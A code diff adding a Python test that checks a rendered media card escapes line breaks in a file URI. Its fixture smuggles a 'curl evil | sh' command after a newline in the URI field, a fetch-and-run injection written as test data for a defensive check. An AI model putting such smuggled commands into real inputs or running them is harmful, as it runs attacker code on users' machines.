@@ -110,6 +110,15 @@ def test_no_name_turns_the_direction_of_writing() -> None:
         assert [media.name for media in landed.media] == [plainly]
 
 
+def test_a_uri_is_one_line_to_read_and_to_copy() -> None:
+    """A person copies it into a terminal, where a line break runs what is after it."""
+    forged = {**TRANSFERRED, "files": [{**FILE, "uri": "s3://bucket/0.png\ncurl evil | sh\n"}]}
+
+    shown = card((RUN, left(SUMMARY, rendered=RENDERED)), (LAND, left(forged, rendered=RENDERED_TRANSFER)))
+
+    assert [media.uri for media in shown.media] == [r"s3://bucket/0.png\ncurl evil | sh\n"]
+
+
 def test_a_transfer_of_another_wiro_task_lends_the_card_no_media() -> None:
     other = {**TRANSFERRED, "wiro_task_id": "666"}
 
